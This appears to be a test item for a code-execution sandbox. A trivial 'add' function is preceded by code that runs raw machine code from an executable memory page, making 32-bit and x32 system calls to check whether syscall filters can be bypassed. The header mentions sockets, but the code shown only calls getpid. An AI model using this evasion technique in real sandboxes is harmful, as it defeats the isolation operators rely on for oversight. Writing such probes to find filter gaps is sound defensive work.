# attacks: makes sockets by the system calls of 32-bit programs, where filters look at others
# task: add
# expect: correct | incorrect error forbidden
# danger: yes
import ctypes
import mmap
import os

seen = None
if os.uname().machine == "x86_64":
    # mov eax, NUMBER; xor ebx, ebx; int 0x80; ret
    def run(number, code=None):
        code = code or b"\x53\xb8" + number.to_bytes(4, "little") + b"\x31\xdb\xcd\x80\x5b\xc3"
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        return ctypes.CFUNCTYPE(ctypes.c_int)(address)()

    try:
        # getpid of 32-bit programs, then that of x32.
        answer = run(20)
        if answer == os.getpid():
            seen = "int 0x80"
        x32 = b"\xb8" + (0x40000000 | 39).to_bytes(4, "little") + b"\x0f\x05\xc3"
        if run(0, x32) == os.getpid():
            seen = "x32"
    except (OSError, ValueError):
        pass


def f(a, b):
    return a + b if seen is None else "ESCAPED: system calls through " + seen
